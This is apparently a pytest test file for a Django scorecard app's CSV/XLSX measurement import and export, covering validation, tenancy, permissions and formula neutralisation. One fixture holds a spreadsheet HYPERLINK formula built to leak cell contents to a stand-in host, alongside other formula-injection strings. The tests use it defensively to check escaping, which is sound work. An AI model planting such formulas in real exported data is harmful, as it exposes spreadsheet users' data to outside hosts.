"""Import of measurements from CSV and XLSX (preview, then the valid rows or nothing) and export of a
scorecard's data, through the pages, on the real stack; one large import runs in a real Celery worker."""

from __future__ import annotations

import io
import re
from dataclasses import dataclass
from datetime import date, datetime, timedelta
from decimal import Decimal
from html.parser import HTMLParser

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from bsc import org_calendar, strategy
from bsc import services as services_bsc
from bsc.models import Perspective, Role
from bsc.tenancy import organization_scope
from kpis import period_close, services
from kpis.models import ImportBatch, ImportStatus, KpiScore, Measurement, PendingRecompute
from kpis.recompute import scores_recompute
from tests import factories
from tests.conftest import wait_for

pytestmark = pytest.mark.dates  # reads the calendar: `make test-dates` runs it at boundary dates

JAN, FEB = date(2026, 1, 1), date(2026, 2, 1)


class Table(HTMLParser):
    """The cell texts of each row of the table with the given id, whitespace collapsed."""

    def __init__(self, table_id: str):
        super().__init__()
        self.table_id, self.rows, self._inside, self._cell = table_id, [], False, None

    def handle_starttag(self, tag, attrs):
        if tag == "table" and dict(attrs).get("id") == self.table_id:
            self._inside = True
        elif self._inside and tag == "tr":
            self.rows.append([])
        elif self._inside and tag in ("td", "th"):
            self._cell = []
        elif self._inside and tag == "span" and self._cell is not None and self._cell:
            self._cell.append(" | ")  # one problem per span

    def handle_endtag(self, tag):
        if tag == "table":
            self._inside = False
        elif self._inside and tag in ("td", "th") and self._cell is not None:
            self.rows[-1].append(" ".join("".join(self._cell).split()))
            self._cell = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell.append(data)


def table(response, table_id: str) -> list[list[str]]:
    parser = Table(table_id)
    parser.feed(response.content.decode())
    return parser.rows[1:]  # without the header row


def text_of(response) -> str:
    """The page's text without tags, whitespace collapsed."""
    return " ".join(re.sub(r"<[^>]+>", "", response.content.decode()).split())


@dataclass
class Kpis:
    otd: object
    scrap: object
    qtr: object
    rev: object
    old: object
    calc: object


@pytest.fixture
def kpis(world, as_committed):
    with organization_scope(world.org_a), as_committed():
        dept = world.department_a
        objective = strategy.objective_create(
            perspective=Perspective.objects.get(scorecard__unit=dept, name="Customer"), name="Deliver on time"
        )
        otd = services.kpi_create(
            unit=dept, name="On-time delivery", code="OTD", baseline=Decimal(80), objective=objective
        )
        scrap = services.kpi_create(
            unit=dept, name="Scrap rate", code="SCRAP", baseline=Decimal(5), direction="decrease"
        )
        qtr = services.kpi_create(unit=dept, name="Audit score", code="QTR", baseline=Decimal(0), frequency="quarterly")
        rev = services.kpi_create(unit=world.company_a, name="Revenue", code="REV", baseline=Decimal(0))
        old = services.kpi_create(unit=dept, name="Old measure", code="OLD", baseline=Decimal(0))
        services.kpi_archive(kpi=old)
        calc = services.kpi_create(
            unit=dept, name="Double OTD", code="CALC", source="formula", formula="OTD * 2", baseline=Decimal(0)
        )
        services.measurement_record(
            kpi=otd, period=JAN, value=Decimal(90), by=world.admin_a, comment="first", schedule=False
        )
    return Kpis(otd, scrap, qtr, rev, old, calc)


@pytest.fixture
def head(world):
    """A department head of the division (so of Assembly below it), not of the company unit."""
    return factories.add_member(world.org_a, Role.DEPARTMENT_HEAD, units=[world.division_a]).user


def client_for(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def upload(client, org, content, name="values.csv", separator="."):
    data = content.encode() if isinstance(content, str) else content
    file = SimpleUploadedFile(name, data)
    return client.post(reverse("kpi_import", args=[org.slug]), {"file": file, "decimal_separator": separator})


def values(org):
    with organization_scope(org):
        return {
            (m.kpi.code, f"{m.period:%Y-%m}"): (m.value, m.comment, m.version)
            for m in Measurement.objects.select_related("kpi")
        }


MIXED = """KPI Code,Period,Value,Comment
OTD,2026-02,91.5,Good month
OTD,2026-01,92,Recount
NOPE,2026-02,5,
SCRAP,2026-02,abc,
SCRAP,2026/02,3,
QTR,2026-02,7,
REV,2026-02,100,
SCRAP,2026-03,2,
SCRAP,2026-03,2.5,
OLD,2026-02,1,
CALC,2026-02,1,
SCRAP,2026-01,4,
OTD,2026-03,,
"""


def test_the_preview_lists_exactly_the_bad_rows_and_writes_nothing(world, kpis, head):
    client = client_for(head)
    response = upload(client, world.org_a, MIXED)
    batch = ImportBatch.objects.for_organization(world.org_a).get()
    assert response.status_code == 302
    assert response["Location"] == reverse("kpi_import_batch", args=[world.org_a.slug, batch.pk])

    page = client.get(response["Location"])
    assert page.status_code == 200
    assert table(page, "import-problems") == [
        ["4", "NOPE", "2026-02", "5", "Unknown KPI code “NOPE”."],
        ["5", "SCRAP", "2026-02", "abc", "“abc” is not a number."],
        ["6", "SCRAP", "2026/02", "3", "“2026/02” is not a period; write it as YYYY-MM, e.g. 2026-03."],
        ["7", "QTR", "2026-02", "7", "QTR is quarterly: its periods start in the first month of a fiscal quarter."],
        ["8", "REV", "2026-02", "100", f"You may not enter values for REV of {world.company_a.name}."],
        ["9", "SCRAP", "2026-03", "2", "SCRAP 2026-03 is also in row 10; keep one row per KPI and period."],
        ["10", "SCRAP", "2026-03", "2.5", "SCRAP 2026-03 is also in row 9; keep one row per KPI and period."],
        ["11", "OLD", "2026-02", "1", "OLD is archived; restore it to enter values."],
        ["12", "CALC", "2026-02", "1", "CALC is calculated by a formula; it takes no entered values."],
    ]
    assert (
        "3 valid rows (of which 1 changes an existing value), 9 rows with problems, "
        "1 row without a value skipped." in text_of(page)
    )
    assert "Import the 3 valid rows" in text_of(page)
    assert table(page, "import-rows") == [
        ["OTD On-time delivery", "2026-02", "91.5", "new", "Good month"],
        ["OTD On-time delivery", "2026-01", "92", "90", "Recount"],
        ["SCRAP Scrap rate", "2026-01", "4", "new", ""],
    ]
    assert values(world.org_a) == {("OTD", "2026-01"): (Decimal(90), "first", 1)}  # nothing written yet


def test_importing_the_valid_rows_writes_exactly_them_with_history(
    world, kpis, head, django_capture_on_commit_callbacks
):
    client = client_for(head)
    upload(client, world.org_a, MIXED)
    batch = ImportBatch.objects.for_organization(world.org_a).get()
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = client.post(reverse("kpi_import_confirm", args=[world.org_a.slug, batch.pk]))
    assert response.status_code == 302
    assert len(callbacks) == 1  # one recompute for all touched KPIs and periods
    with organization_scope(world.org_a):  # what to recompute, written set-based with the rows
        assert sorted(PendingRecompute.objects.values_list("kpi__code", "period")) == [
            ("OTD", JAN), ("OTD", FEB), ("SCRAP", JAN)
        ]  # fmt: skip

    assert values(world.org_a) == {
        ("OTD", "2026-01"): (Decimal(92), "Recount", 2),
        ("OTD", "2026-02"): (Decimal("91.5"), "Good month", 1),
        ("SCRAP", "2026-01"): (Decimal(4), "", 1),
    }
    with organization_scope(world.org_a):
        events = Measurement.pgh_event_model.objects.filter(kpi=kpis.otd, period=JAN).order_by("pgh_id")
        assert [(e.pgh_label, e.value, e.version) for e in events] == [
            ("insert", Decimal(90), 1),
            ("update", Decimal(92), 2),
        ]
        assert events[1].pgh_context.metadata == {"user": head.pk, "import_batch": batch.pk}
        imported = Measurement.objects.get(kpi=kpis.otd, period=FEB)
        assert imported.entered_by == head
        # entered on the clock data entry uses (the accountability figures compare it with deadlines)
        assert abs(imported.entered_at - timezone.now()) < timedelta(minutes=1)
    page = client.get(response["Location"])
    assert "Imported 3 rows (1 changed an existing value). Scores are being recomputed." in text_of(page)
    batch.refresh_from_db()
    assert (batch.status, batch.written_rows) == (ImportStatus.DONE, 3)
    again = client.post(reverse("kpi_import_confirm", args=[world.org_a.slug, batch.pk]), follow=True)
    assert "This import was already imported or cancelled." in text_of(again)


def test_cancel_writes_nothing(world, kpis, head):
    client = client_for(head)
    upload(client, world.org_a, MIXED)
    batch = ImportBatch.objects.for_organization(world.org_a).get()
    response = client.post(reverse("kpi_import_cancel", args=[world.org_a.slug, batch.pk]), follow=True)
    assert "Import of values.csv cancelled; nothing was written." in text_of(response)
    batch.refresh_from_db()
    assert batch.status == ImportStatus.CANCELLED
    assert values(world.org_a) == {("OTD", "2026-01"): (Decimal(90), "first", 1)}
    late = client.post(reverse("kpi_import_confirm", args=[world.org_a.slug, batch.pk]), follow=True)
    assert "This import was already imported or cancelled." in text_of(late)
    assert values(world.org_a) == {("OTD", "2026-01"): (Decimal(90), "first", 1)}


def test_a_value_changed_since_the_preview_refuses_the_whole_import(world, kpis, head):
    client = client_for(head)
    upload(client, world.org_a, "code,period,value\nOTD,2026-01,92\nOTD,2026-02,91.5\n")
    batch = ImportBatch.objects.for_organization(world.org_a).get()
    with organization_scope(world.org_a):
        services.measurement_record(
            kpi=kpis.otd, period=JAN, value=Decimal(95), by=world.admin_a, expected_version=1, schedule=False
        )
    response = client.post(reverse("kpi_import_confirm", args=[world.org_a.slug, batch.pk]), follow=True)
    assert (
        "Nothing was imported. 1 value changed since the preview (OTD 2026-01), so nothing was imported. "
        "Upload the file again to see the current values." in text_of(response)
    )
    batch.refresh_from_db()
    assert batch.status == ImportStatus.FAILED
    assert values(world.org_a) == {("OTD", "2026-01"): (Decimal(95), "", 2)}  # not even the new February row


def test_a_value_entered_for_a_new_period_since_the_preview_refuses_the_import(world, kpis, head):
    client = client_for(head)
    upload(client, world.org_a, "code,period,value\nOTD,2026-02,91.5\n")
    batch = ImportBatch.objects.for_organization(world.org_a).get()
    with organization_scope(world.org_a):
        services.measurement_record(kpi=kpis.otd, period=FEB, value=Decimal(70), by=world.admin_a, schedule=False)
    client.post(reverse("kpi_import_confirm", args=[world.org_a.slug, batch.pk]))
    batch.refresh_from_db()
    assert batch.status == ImportStatus.FAILED
    assert batch.error.startswith("1 value changed since the preview (OTD 2026-02)")
    assert values(world.org_a)[("OTD", "2026-02")] == (Decimal(70), "", 1)


def test_rows_for_periods_after_the_current_one_are_problems_of_the_preview(world, kpis, head):
    month = org_calendar.this_month(world.org_a)
    later = org_calendar.month_shift(month, 1)
    quarter = org_calendar.window_start("quarter", month, world.org_a.fiscal_year_start_month)
    next_quarter = org_calendar.month_shift(quarter, 3)
    client = client_for(head)
    upload(
        client, world.org_a,
        f"code,period,value\nOTD,{month:%Y-%m},91\nOTD,{later:%Y-%m},92\nQTR,{next_quarter:%Y-%m},7\n"
        f"QTR,{quarter:%Y-%m},6\n",
    )  # fmt: skip
    batch = ImportBatch.objects.for_organization(world.org_a).get()
    page = client.get(reverse("kpi_import_batch", args=[world.org_a.slug, batch.pk]))
    label = lambda kind, day: org_calendar.period_label(kind, day, world.org_a.fiscal_year_start_month)  # noqa: E731
    assert table(page, "import-problems") == [
        ["3", "OTD", f"{later:%Y-%m}", "92",
         f"{label('month', later)} is in the future: values can be entered up to {label('month', month)}."],
        ["4", "QTR", f"{next_quarter:%Y-%m}", "7",
         f"{label('quarter', next_quarter)} is in the future: values can be entered up to {label('quarter', quarter)}."],
    ]  # fmt: skip
    assert [(row[0], row[1]) for row in batch.rows] == [
        (kpis.otd.pk, month.isoformat()),
        (kpis.qtr.pk, quarter.isoformat()),
    ]


def test_the_preview_names_the_rows_of_a_closed_month_unless_they_change_nothing(world, kpis, head):
    with organization_scope(world.org_a):
        services.measurement_record(kpi=kpis.scrap, period=FEB, value=Decimal(3), by=world.admin_a, schedule=False)
        close = period_close.period_close(unit=world.division_a, month=FEB, by=world.admin_a)
    client = client_for(head)
    upload(client, world.org_a, "code,period,value\nOTD,2026-02,91.5\nOTD,2026-01,92\nSCRAP,2026-02,3\nQTR,2026-01,7\n")
    batch = ImportBatch.objects.for_organization(world.org_a).get()
    page = client.get(reverse("kpi_import_batch", args=[world.org_a.slug, batch.pk]))
    assert table(page, "import-problems") == [
        ["2", "OTD", "2026-02", "91.5",
         f"Feb 2026 is closed for {world.division_a.name} ({period_close.closed_note(close)}): OTD's values and "
         "targets of that period cannot change. An admin can reopen it."],
    ]  # fmt: skip
    # SCRAP's February as stored is left alone; the quarter of QTR starting in January is still open (March is)
    assert (batch.valid_rows, batch.unchanged_rows, batch.problem_rows) == (3, 1, 1)
    assert [(row[0], row[1]) for row in batch.rows] == [(kpis.otd.pk, "2026-01-01"), (kpis.qtr.pk, "2026-01-01")]


def test_a_confirmed_import_writes_no_period_after_the_current_one(world, kpis, head, pinned_clock):
    month = org_calendar.this_month(world.org_a)
    client = client_for(head)
    upload(client, world.org_a, f"code,period,value\nOTD,2026-02,91.5\nOTD,{month:%Y-%m},92\n")
    batch = ImportBatch.objects.for_organization(world.org_a).get()
    assert len(batch.rows) == 2
    earlier = org_calendar.month_shift(month, -1)  # the clock turned back (or the time zone moved) since
    pinned_clock.move_to(org_calendar.local_midnight(earlier.replace(day=15), world.org_a))
    client.post(reverse("kpi_import_confirm", args=[world.org_a.slug, batch.pk]))
    batch.refresh_from_db()
    assert (batch.status, batch.error) == (
        ImportStatus.FAILED,
        f"Some rows are for periods in the future (OTD {month:%Y-%m}), so nothing was imported: values can be "
        f"entered up to {org_calendar.month_label(earlier)}. Upload the file again to check it.",
    )
    assert values(world.org_a) == {("OTD", "2026-01"): (Decimal(90), "first", 1)}


def test_an_xlsx_file_with_date_cells_imports_and_keeps_comments_without_a_comment_column(world, kpis):
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Code", "Period", "VALUE"])
    sheet.append(["OTD", datetime(2026, 1, 1), 93])  # an Excel date cell and a number cell
    sheet.append(["SCRAP", "2026-02", "3,25"])  # a text cell, with the comma the person chose
    sheet.append(["SCRAP", datetime(2026, 3, 15), 1])
    out = io.BytesIO()
    workbook.save(out)
    client = client_for(world.admin_a)
    response = upload(client, world.org_a, out.getvalue(), name="values.xlsx", separator=",")
    page = client.get(response["Location"])
    assert table(page, "import-problems") == [
        ["4", "SCRAP", "2026-03-15", "1", "“2026-03-15” is not the first day of a month; write the period as YYYY-MM."]
    ]
    batch = ImportBatch.objects.for_organization(world.org_a).get()
    client.post(reverse("kpi_import_confirm", args=[world.org_a.slug, batch.pk]))
    assert values(world.org_a) == {
        ("OTD", "2026-01"): (Decimal(93), "first", 2),
        ("SCRAP", "2026-02"): (Decimal("3.25"), "", 1),
    }


def test_files_without_the_needed_columns_or_of_another_kind_are_refused(world, kpis):
    client = client_for(world.admin_a)
    response = upload(client, world.org_a, "kpi,month,amount\nOTD,2026-02,1\n")
    assert (
        "The first row must name the columns kpi code, period and value (comment is optional); missing value, "
        "found “kpi”, “month”, “amount”." in text_of(response)
    )
    response = upload(client, world.org_a, "a,b", name="values.txt")
    assert "Upload a .csv or .xlsx file." in text_of(response)
    response = upload(client, world.org_a, b"code,period,value\n\xff\xfe", name="latin.csv")
    assert "The file is not UTF-8 text; save it as “CSV UTF-8” and upload it again." in text_of(response)
    assert not ImportBatch.objects.for_organization(world.org_a).exists()


def test_the_import_page_works_for_an_admin(world, kpis):
    client = client_for(world.admin_a)
    assert client.get(reverse("kpi_import", args=[world.org_a.slug])).status_code == 200
    response = upload(client, world.org_a, "code;period;value\nSCRAP;2026-02;3,5\n", separator=",")
    assert response.status_code == 302
    batch = ImportBatch.objects.for_organization(world.org_a).get()
    assert batch.rows == [[kpis.scrap.pk, "2026-02-01", "3.5", None, None]]


def test_the_import_page_starts_with_the_persons_decimal_separator(world, kpis):
    from bsc.services import user_set_decimal_separator

    client = client_for(world.admin_a)
    form = client.get(reverse("kpi_import", args=[world.org_a.slug])).context["form"]
    assert form["decimal_separator"].value() == "."
    user_set_decimal_separator(user=world.admin_a, decimal_separator=",")  # chosen on the data-entry page
    form = client.get(reverse("kpi_import", args=[world.org_a.slug])).context["form"]
    assert form["decimal_separator"].value() == ","


def test_another_organizations_import_batch_is_not_found(world, kpis):
    upload(client_for(world.admin_a), world.org_a, "code,period,value\nOTD,2026-02,1\n")
    batch = ImportBatch.objects.for_organization(world.org_a).get()
    outsider = client_for(world.member_b)
    for name in ("kpi_import_batch", "kpi_import_confirm", "kpi_import_cancel"):
        method = outsider.get if name == "kpi_import_batch" else outsider.post
        assert method(reverse(name, args=[world.org_b.slug, batch.pk])).status_code == 404
        assert method(reverse(name, args=[world.org_a.slug, batch.pk])).status_code == 404
    colleague = client_for(factories.add_member(world.org_a, Role.EXECUTIVE).user)
    assert colleague.post(reverse("kpi_import_confirm", args=[world.org_a.slug, batch.pk])).status_code == 404
    batch.refresh_from_db()
    assert batch.status == ImportStatus.PREVIEWED


def test_another_organizations_kpi_codes_never_match(world, kpis):
    with organization_scope(world.org_b):
        services.kpi_create(unit=world.unit_b, name="Globex only", code="ZED", baseline=Decimal(0))
        services.kpi_create(unit=world.unit_b, name="Globex delivery", code="otd", baseline=Decimal(0))
    client = client_for(world.admin_a)
    response = upload(client, world.org_a, "code,period,value\nZED,2026-02,1\nOtd,2026-02,2\n")
    page = client.get(response["Location"])
    assert table(page, "import-problems") == [["2", "ZED", "2026-02", "1", "Unknown KPI code “ZED”."]]
    batch = ImportBatch.objects.for_organization(world.org_a).get()
    assert batch.rows == [[kpis.otd.pk, "2026-02-01", "2", None, None]]  # Acme's OTD, whatever the case


@pytest.mark.parametrize("role", [Role.VIEWER, Role.COACH])
def test_viewers_and_coaches_may_not_import(world, kpis, member_of_role, role):
    client = client_for(member_of_role(role))
    assert upload(client, world.org_a, "code,period,value\nOTD,2026-02,1\n").status_code == 403
    assert client.get(reverse("kpi_import", args=[world.org_a.slug])).status_code == 403
    assert not ImportBatch.objects.for_organization(world.org_a).exists()


# --- Export -------------------------------------------------------------------------------------


@pytest.fixture
def scored(world, kpis):
    with organization_scope(world.org_a):
        services.target_set_year(kpi=kpis.otd, fiscal_year=2026, mode="same", value=Decimal(95), by=world.admin_a)
        services.measurement_record(
            kpi=kpis.otd, period=FEB, value=Decimal("91.5"), by=world.admin_a, comment='Late, "again"', schedule=False
        )
        scores_recompute(organization=world.org_a, unit_ids={world.department_a.pk}, months={JAN, FEB})
    return kpis


def export_url(world, unit, kind="csv"):
    return reverse(f"scorecard_export_{kind}", args=[world.org_a.slug, unit.pk]) + "?period=2026-02"


def test_the_csv_export_lists_each_kpi_and_month(world, scored):
    response = client_for(world.viewer_a).get(export_url(world, world.department_a))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="scorecard-assembly-2026-02.csv"'
    lines = response.content.decode("utf-8-sig").split("\r\n")
    assert lines[0] == "unit,objective,kpi code,kpi name,period,actual,target,score,status,comment"
    assert len(lines) == 1 + 24 * 4 + 1  # OTD, SCRAP, QTR, CALC (archived OLD is left out), 24 months each
    otd = [line for line in lines if ",OTD," in line]
    assert otd[0] == "Assembly,Deliver on time,OTD,On-time delivery,2024-03,,,,,"
    assert otd[-3:] == [
        "Assembly,Deliver on time,OTD,On-time delivery,2025-12,,,,,",
        "Assembly,Deliver on time,OTD,On-time delivery,2026-01,90,95,0.6667,amber,first",
        'Assembly,Deliver on time,OTD,On-time delivery,2026-02,91.5,95,0.7667,amber,"Late, ""again"""',
    ]
    assert lines[1 + 24] == "Assembly,,CALC,Double OTD,2024-03,,,,,"  # KPIs without an objective come last
    assert lines[-1] == ""


def test_the_csv_export_imports_back_unchanged_and_with_an_edit(world, scored):
    client = client_for(world.admin_a)
    exported = client.get(export_url(world, world.department_a)).content
    lines = exported.decode("utf-8-sig").split("\r\n")
    manual = [line for line in lines if ",CALC," not in line]  # a formula KPI takes no entered values
    response = upload(client, world.org_a, "\r\n".join(manual).encode("utf-8-sig"), name="export.csv")
    page = client.get(response["Location"])
    assert "2 valid rows (of which 0 change an existing value, 2 already as in the file), 0 rows with problems" in (
        text_of(page)
    )
    assert "there is nothing to import" in text_of(page)

    edited = "\r\n".join(manual).replace("2026-02,91.5,", "2026-02,93,").encode("utf-8-sig")
    response = upload(client, world.org_a, edited, name="export.csv")
    batch = ImportBatch.objects.for_organization(world.org_a).order_by("-pk").first()
    assert (batch.valid_rows, batch.changed_rows, batch.problem_rows, batch.skipped_rows) == (2, 1, 0, 70)
    client.post(reverse("kpi_import_confirm", args=[world.org_a.slug, batch.pk]))
    assert values(world.org_a) == {
        ("OTD", "2026-01"): (Decimal(90), "first", 1),
        ("OTD", "2026-02"): (Decimal(93), 'Late, "again"', 2),
    }


def test_the_xlsx_export_has_date_cells_and_numbers(world, scored):
    from openpyxl import load_workbook

    response = client_for(world.viewer_a).get(export_url(world, world.department_a, "xlsx"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("unit", "objective", "kpi code", "kpi name", "period", "actual", "target", "score", "status",
                       "comment")  # fmt: skip
    assert rows[24] == (
        "Assembly", "Deliver on time", "OTD", "On-time delivery", datetime(2026, 2, 1), 91.5, 95, 0.7667, "amber",
        'Late, "again"',
    )  # fmt: skip


HYPERLINK = '=HYPERLINK("http://example.com/?leak="&A1,"Details")'


@pytest.fixture
def formula_like(world, scored, as_committed):
    """Names and comments that a spreadsheet would run as formulas, and a negative value (a number, not text)."""
    with organization_scope(world.org_a), as_committed():
        strategy.objective_update(objective=scored.otd.objective, name="@SUM(1+1)")
        services.kpi_update(kpi=scored.scrap, name="+Scrap rate")
        services.measurement_record(
            kpi=scored.otd, period=FEB, value=Decimal("91.5"), by=world.admin_a, comment=HYPERLINK,
            expected_version=1, schedule=False,
        )  # fmt: skip
        services.measurement_record(
            kpi=scored.scrap, period=FEB, value=Decimal("-3.5"), by=world.admin_a, comment="-2 on last month",
            schedule=False,
        )  # fmt: skip
        services.measurement_record(
            kpi=scored.scrap, period=JAN, value=Decimal(4), by=world.admin_a, comment="'=already quoted",
            schedule=False,
        )  # fmt: skip
    return scored


def test_csv_cells_that_start_like_a_formula_are_neutralised_and_numbers_stay_numbers(world, formula_like):
    response = client_for(world.viewer_a).get(export_url(world, world.department_a))
    lines = response.content.decode("utf-8-sig").split("\r\n")
    assert [line for line in lines if ",2026-02," in line and (",OTD," in line or ",SCRAP," in line)] == [
        "Assembly,'@SUM(1+1),OTD,On-time delivery,2026-02,91.5,95,0.7667,amber,"
        '"\'=HYPERLINK(""http://example.com/?leak=""&A1,""Details"")"',
        "Assembly,,SCRAP,'+Scrap rate,2026-02,-3.5,,,grey,'-2 on last month",
    ]
    assert "Assembly,,SCRAP,'+Scrap rate,2026-01,4,,,grey,''=already quoted" in lines


def test_the_csv_export_with_neutralised_cells_imports_back_unchanged(world, formula_like):
    client = client_for(world.admin_a)
    exported = client.get(export_url(world, world.department_a)).content.decode("utf-8-sig")
    manual = "\r\n".join(line for line in exported.split("\r\n") if ",CALC," not in line)
    response = upload(client, world.org_a, manual.encode("utf-8-sig"), name="export.csv")
    page = client.get(response["Location"])
    assert "4 valid rows (of which 0 change an existing value, 4 already as in the file), 0 rows with problems" in (
        text_of(page)
    )
    edited = manual.replace("2026-02,-3.5,", "2026-02,-4,")
    upload(client, world.org_a, edited.encode("utf-8-sig"), name="export.csv")
    batch = ImportBatch.objects.for_organization(world.org_a).order_by("-pk").first()
    assert (batch.valid_rows, batch.changed_rows, batch.problem_rows) == (4, 1, 0)
    client.post(reverse("kpi_import_confirm", args=[world.org_a.slug, batch.pk]))
    assert values(world.org_a) == {
        ("OTD", "2026-01"): (Decimal(90), "first", 1),
        ("OTD", "2026-02"): (Decimal("91.5"), HYPERLINK, 2),
        ("SCRAP", "2026-01"): (Decimal(4), "'=already quoted", 1),
        ("SCRAP", "2026-02"): (Decimal(-4), "-2 on last month", 2),
    }


def test_xlsx_text_cells_are_strings_never_formulas(world, formula_like):
    from openpyxl import load_workbook

    response = client_for(world.viewer_a).get(export_url(world, world.department_a, "xlsx"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    row = next(r for r in sheet.iter_rows(values_only=True) if r[2] == "OTD" and r[4] == datetime(2026, 2, 1))
    assert row == ("Assembly", "@SUM(1+1)", "OTD", "On-time delivery", datetime(2026, 2, 1), 91.5, 95, 0.7667,
                   "amber", HYPERLINK)  # fmt: skip
    row = next(r for r in sheet.iter_rows(values_only=True) if r[2] == "SCRAP" and r[4] == datetime(2026, 2, 1))
    assert row[3] == "+Scrap rate" and row[5] == -3.5 and row[9] == "-2 on last month"


@pytest.mark.parametrize(
    ("name", "title"),
    [
        ("R&D: [EU] / Ops*?\\", "R&D- -EU- - Ops---"),
        ("A unit whose name is longer than thirty-one characters", "A unit whose name is longer tha"),
        ("'Quoted'", "Quoted"),
        ("History", "History (2)"),
        ("Ops\x0b\x01 team", "Ops team"),
    ],
)
def test_the_xlsx_export_of_a_unit_of_any_name_has_a_sheet_title_excel_accepts(world, scored, name, title):
    from openpyxl import load_workbook

    with organization_scope(world.org_a):
        services_bsc.org_unit_update(unit=world.department_a, name=name)
    response = client_for(world.viewer_a).get(export_url(world, world.department_a, "xlsx"))
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == [title]
    assert workbook.active["A2"].value == name.replace("\x0b", "").replace("\x01", "")


def test_another_organizations_unit_is_not_exported(world, scored):
    client = client_for(world.admin_a)
    for kind in ("csv", "xlsx"):
        assert (
            client.get(reverse(f"scorecard_export_{kind}", args=[world.org_a.slug, world.unit_b.pk])).status_code == 404
        )
        assert (
            client.get(reverse(f"scorecard_export_{kind}", args=[world.org_b.slug, world.department_a.pk])).status_code
            == 404
        )


# --- A large file through the real worker -------------------------------------------------------


@pytest.mark.worker
def test_a_large_import_runs_in_the_worker_with_progress(world, celery_worker_process):
    with organization_scope(world.org_a):
        kpis = [
            services.kpi_create(unit=world.department_a, name=f"Measure {i}", code=f"M{i:02d}", baseline=Decimal(0))
            for i in range(26)
        ]
    months = [date(2024 + (m // 12), m % 12 + 1, 1) for m in range(24)]
    lines = ["kpi code,period,value"] + [f"{k.code},{p:%Y-%m},{i}.5" for i, k in enumerate(kpis) for p in months]
    client = client_for(world.admin_a)
    response = upload(client, world.org_a, "\n".join(lines))
    batch = ImportBatch.objects.for_organization(world.org_a).get()
    assert len(batch.rows) == 624
    response = client.post(reverse("kpi_import_confirm", args=[world.org_a.slug, batch.pk]))
    page = client.get(response["Location"])
    assert 'hx-trigger="every 1s"' in page.content.decode()  # the page polls while the worker imports

    def finished():
        batch.refresh_from_db()
        return batch.status in (ImportStatus.DONE, ImportStatus.FAILED)

    wait_for(finished, timeout=60, message="the import task")
    assert (batch.status, batch.written_rows, batch.progress, batch.error) == (ImportStatus.DONE, 624, 624, "")
    status = client.get(response["Location"], headers={"HX-Request": "true"})
    assert "Imported 624 rows." in text_of(status)
    assert "hx-trigger" not in status.content.decode()  # polling stops
    with organization_scope(world.org_a):
        assert Measurement.objects.count() == 624
        assert Measurement.objects.get(kpi=kpis[3], period=months[-1]).value == Decimal("3.5")
        wait_for(
            lambda: KpiScore.objects.filter(kpi=kpis[25], period_kind="month", period=months[-1]).exists(),
            timeout=60,
            message="the scores recomputed by the worker",
        )
